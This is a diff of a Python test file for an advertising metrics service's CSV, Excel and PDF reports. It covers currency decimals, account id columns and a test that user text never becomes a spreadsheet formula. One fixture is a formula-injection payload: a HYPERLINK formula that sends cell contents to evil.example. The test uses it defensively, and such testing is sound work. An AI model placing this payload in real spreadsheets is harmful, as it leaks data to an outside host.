@@ -17,6 +17,7 @@ import openpyxl
 import pypdf
 from sqlalchemy.ext.asyncio import async_sessionmaker
 
+from adpilot_common.events.contracts.metrics import MetricRow
 from adpilot_common.jobs import JobStatus, finish_job
 from adpilot_common.testing.waiting import eventually
 from adpilot_metrics.models import Report, ReportSchedule
@@ -50,6 +51,10 @@ async def seed(svc: MetricsService) -> None:
     )
     await svc.publish(fetched(ORG, uuid.uuid4(), [row("c-us", FIRST, 3)], currency="USD"))
     await svc.settled()
+
+
+def pdf_text(data: bytes) -> str:
+    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)
 
 
 async def request_report(svc: MetricsService, **body: Any) -> dict[str, Any]:
@@ -109,12 +114,8 @@ async def test_csv_report_lists_every_campaign_and_day_with_kpis_from_sums(
     assert first["campaign_name"] == "Shoes — Herbst"
     assert (first["currency"], first["impressions"], first["clicks"]) == ("EUR", "2000", "20")
     assert (first["spend"], first["conversions"], first["conversion_value"]) == ("2.00", "1.00", "10.00")
-    assert (first["ctr"], first["cpc"], first["cpa"], first["roas"]) == (
-        "0.010000",
-        "0.10",
-        "2.00",
-        "5.000000",
-    )
+    assert (first["ctr"], first["cpc"], first["cpa"], first["roas"]) == ("0.0100", "0.10", "2.00", "5.00")
+    assert (first["account_id"], first["platform_account_id"]) == (str(ACCOUNT), "123-456-7890")
     evil = next(r for r in rows if r["campaign_id"] == "c-evil")
     assert evil["campaign_name"] == '\'=HYPERLINK("x")'  # never a formula in a spreadsheet
     assert {r["currency"] for r in rows} == {"EUR", "USD"}
@@ -174,14 +175,103 @@ async def test_xlsx_report_has_summary_trend_chart_campaigns_and_breakdown(
     assert Decimal(str(eur["CPA"])) == Decimal(2)
 
     campaigns = list(book["Campaigns"].iter_rows(values_only=True))
-    assert campaigns[0][:6] == ("Rank", "Currency", "Platform", "Account", "Campaign id", "Campaign")
-    assert [(r[0], r[4]) for r in campaigns[1:] if r[1] == "EUR"] == [(1, "c-shoes"), (2, "c-evil")]
-    evil = next(c for c in book["Campaigns"].iter_rows() if c[4].value == "c-evil")
-    assert evil[5].value == '=HYPERLINK("x")' and evil[5].data_type == "s"  # text, not a formula
+    assert campaigns[0][:7] == (
+        "Rank",
+        "Currency",
+        "Platform",
+        "Platform account id",
+        "AdPilot account id",
+        "Campaign id",
+        "Campaign",
+    )
+    assert [(r[0], r[3], r[5]) for r in campaigns[1:] if r[1] == "EUR"] == [
+        (1, "123-456-7890", "c-shoes"),
+        (2, "123-456-7890", "c-evil"),
+    ]
+    evil = next(c for c in book["Campaigns"].iter_rows() if c[5].value == "c-evil")
+    assert evil[6].value == '=HYPERLINK("x")' and evil[6].data_type == "s"  # text, not a formula
     assert book["Breakdown"].max_row == 1 + 11
     with zipfile.ZipFile(io.BytesIO(data)) as archive:  # openpyxl drops charts on load: look in the file
         chart = archive.read("xl/charts/chart1.xml").decode()
     assert "Spend per day (EUR)" in chart
+
+
+async def test_figures_have_the_currency_decimals_and_accounts_their_platform_id(
+    metrics_service: MetricsService,
+) -> None:
+    """Amounts in the currency's minor unit (JPY 0 decimals, GBP 2), ratios as fractions with 4 decimals, ROAS
+    with 2: the same figures in the CSV, the Excel cells and the PDF. The account's platform id comes from the
+    campaign events; an account without any has none."""
+    gb, jp = uuid.uuid4(), uuid.uuid4()
+    await publish_campaign_events(
+        metrics_service, campaign_event("campaign.v1.created", "c-gb", "Brolly", org=ORG, account=gb)
+    )
+    odd = MetricRow(
+        campaign_id="c-gb",
+        day=FIRST,
+        impressions=1720,
+        clicks=58,
+        spend_micros=57_823_099,
+        conversions=Decimal("1.5"),
+        conversion_value_micros=100_000_000,
+    )
+    await metrics_service.publish(fetched(ORG, gb, [odd], currency="GBP"))
+    await metrics_service.publish(fetched(ORG, jp, [{**odd, "campaign_id": "c-jp"}], currency="JPY"))
+    await metrics_service.settled()
+
+    csv_report = await finished(metrics_service, (await request_report(metrics_service))["id"])
+    data, _ = await download(metrics_service, csv_report)
+    rows = {r["currency"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
+    measures = (
+        "spend",
+        "conversions",
+        "conversion_value",
+        "ctr",
+        "cpc",
+        "cpm",
+        "cpa",
+        "roas",
+        "conversion_rate",
+    )
+    assert [rows["GBP"][m] for m in measures] == [
+        "57.82",
+        "1.50",
+        "100.00",
+        "0.0337",
+        "1.00",
+        "33.62",
+        "38.55",
+        "1.73",
+        "0.0259",
+    ]
+    assert [rows["JPY"][m] for m in measures] == [
+        "58",
+        "1.50",
+        "100",
+        "0.0337",
+        "1",
+        "34",
+        "39",
+        "1.73",
+        "0.0259",
+    ]
+    assert (rows["GBP"]["account_id"], rows["GBP"]["platform_account_id"]) == (str(gb), "123-456-7890")
+    assert (rows["JPY"]["account_id"], rows["JPY"]["platform_account_id"]) == (str(jp), "")
+
+    xlsx = await finished(metrics_service, (await request_report(metrics_service, format="xlsx"))["id"])
+    book = openpyxl.load_workbook(io.BytesIO((await download(metrics_service, xlsx))[0]))
+    sheet = list(book["Breakdown"].iter_rows())
+    header = [c.value for c in sheet[0]]
+    cells = {line[2].value: dict(zip(header, line, strict=True)) for line in sheet[1:]}
+    assert (cells["JPY"]["Spend"].value, cells["JPY"]["Spend"].number_format) == (58, "#,##0")
+    assert (cells["GBP"]["Spend"].value, cells["GBP"]["Spend"].number_format) == (57.82, "#,##0.00")
+    assert (cells["GBP"]["CTR"].value, cells["GBP"]["CTR"].number_format) == (0.0337, "0.00%")
+    assert (cells["GBP"]["ROAS"].value, cells["GBP"]["Platform account id"].value) == (1.73, "123-456-7890")
+
+    pdf = await finished(metrics_service, (await request_report(metrics_service, format="pdf"))["id"])
+    text = pdf_text((await download(metrics_service, pdf))[0])
+    assert "GBP 57.82" in text and "JPY 58" in text and "JPY 57.82" not in text
+    assert "GBP 38.55" in text and "JPY 39" in text  # CPA
 
 
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
@@ -207,7 +297,7 @@ async def test_text_we_did_not_compute_is_never_a_formula(metrics_service: Metri
         if cell.data_type == "f"
     ]
     assert formulas == []
-    ids = [r[5].value for r in book["Breakdown"].iter_rows(min_row=2)]
+    ids = [r[6].value for r in book["Breakdown"].iter_rows(min_row=2)]
     assert "@SUM(1+1)" in ids
 
     csv_report = await finished(
@@ -228,8 +318,7 @@ async def test_pdf_report_text_has_summary_chart_and_top_campaigns(metrics_servi
     data, response_headers = await download(metrics_service, report)
     assert response_headers["content-type"] == "application/pdf"
     assert data.startswith(b"%PDF-")
-    pdf = pypdf.PdfReader(io.BytesIO(data))
-    text = "\n".join(page.extract_text() for page in pdf.pages)
+    text = pdf_text(data)
     assert "Board pack" in text
     assert "Period: 2026-09-01 to 2026-09-05" in text
     assert "Summary in EUR" in text and "Summary in USD" in text
@@ -244,7 +333,7 @@ async def test_pdf_report_text_has_summary_chart_and_top_campaigns(metrics_servi
 async def test_empty_period_still_makes_a_report(metrics_service: MetricsService) -> None:
     report = await finished(metrics_service, (await request_report(metrics_service, format="pdf"))["id"])
     data, _ = await download(metrics_service, report)
-    text = "\n".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(data)).pages)
+    text = pdf_text(data)
     assert "No metrics in this period." in text
 
 
